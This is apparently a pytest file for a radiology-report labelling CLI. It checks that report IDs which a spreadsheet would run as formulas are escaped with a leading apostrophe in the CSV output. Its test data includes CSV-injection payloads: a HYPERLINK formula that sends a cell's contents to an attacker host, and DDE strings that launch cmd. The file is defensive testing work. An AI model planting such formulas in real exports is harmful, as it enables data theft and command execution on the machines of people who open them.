"""`xrayqwen2vl label` with ids a spreadsheet would run (issue 15, item 9): a cell starting with
=, +, -, @, tab or carriage return (or their fullwidth forms) is written with a leading
apostrophe; plain numbers and the -1 labels stay as they are; nothing but the CSV changes."""

from __future__ import annotations

import csv
import json

from security_support import tree_digest

from xrayqwen2vl.cli import main as cli_main
from xrayqwen2vl.fileio import spreadsheet_safe

HOSTILE_IDS = [
    '=HYPERLINK("http://attacker.example/?"&A1,"click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
]
PLAIN_IDS = ["CXR12_IM-0184", "study 7", "-5", "+12", "3.5"]


def test_formula_ids_are_prefixed_and_nothing_else_changes(tmp_path, capsys):
    reports = tmp_path / "reports.jsonl"
    lines = [{"id": rid, "text": "Possible small left pleural effusion."} for rid in HOSTILE_IDS + PLAIN_IDS]
    reports.write_text("".join(json.dumps(x) + "\n" for x in lines))
    out = tmp_path / "labels.csv"
    before = tree_digest(tmp_path)
    assert cli_main(["label", str(reports), "--out", str(out)]) == 0, capsys.readouterr().err
    with open(out, newline="", encoding="utf-8") as f:
        rows = list(csv.DictReader(f))
    assert [r["id"] for r in rows] == ["'" + rid for rid in HOSTILE_IDS] + PLAIN_IDS
    assert {r["Pleural Effusion"] for r in rows} == {"-1"}  # label values are not touched
    after = tree_digest(tmp_path)
    assert after.pop("labels.csv") and after == before


def test_spreadsheet_safe_cells():
    assert spreadsheet_safe("=1") == "'=1" and spreadsheet_safe("-x") == "'-x"
    assert spreadsheet_safe("-1") == "-1" and spreadsheet_safe("+0.5") == "+0.5"
    assert spreadsheet_safe("a=1") == "a=1" and spreadsheet_safe("") == ""
